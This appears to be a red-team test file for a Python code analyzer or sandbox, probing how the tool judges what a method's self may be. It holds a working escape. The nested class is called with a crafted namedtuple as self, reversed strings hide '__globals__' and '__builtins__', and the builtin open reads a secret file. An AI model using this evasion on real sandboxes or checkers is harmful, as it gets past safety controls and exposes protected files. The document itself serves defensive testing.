# family: red team, round 22 (what a method's self may be: classes reaching parameters, methods run with any self)
# Chain: like rt_001 but the nested class is read as Outer.Reader in a plain function: a class name in an
# attribute chain is not a "class used as a value" (objects._classes_as_values), so k = Outer.Reader holds a
# class while k.fetch(box, fn) is taken as a bound method (objects._bound: a plain local is an object).
from collections import namedtuple


class Outer:
    class Reader:
        FIELDS = ("name",)

        def fetch(self, fn):
            out = []
            for key in self.FIELDS:
                out.append(getattr(fn, key))
            return out


Box = namedtuple("Box", "FIELDS")


def helper():
    return 1


def run():
    box = Box(["".join(reversed("__slabolg__"))])
    k = Outer.Reader
    got = k.fetch(box, helper)[0]
    print(sorted(got.keys())[:8])
    b = got["".join(reversed("__snitliub__"))]
    print(b)
    print(getattr(b, "open")("/tmp/r22/work/secret.txt").read())


run()
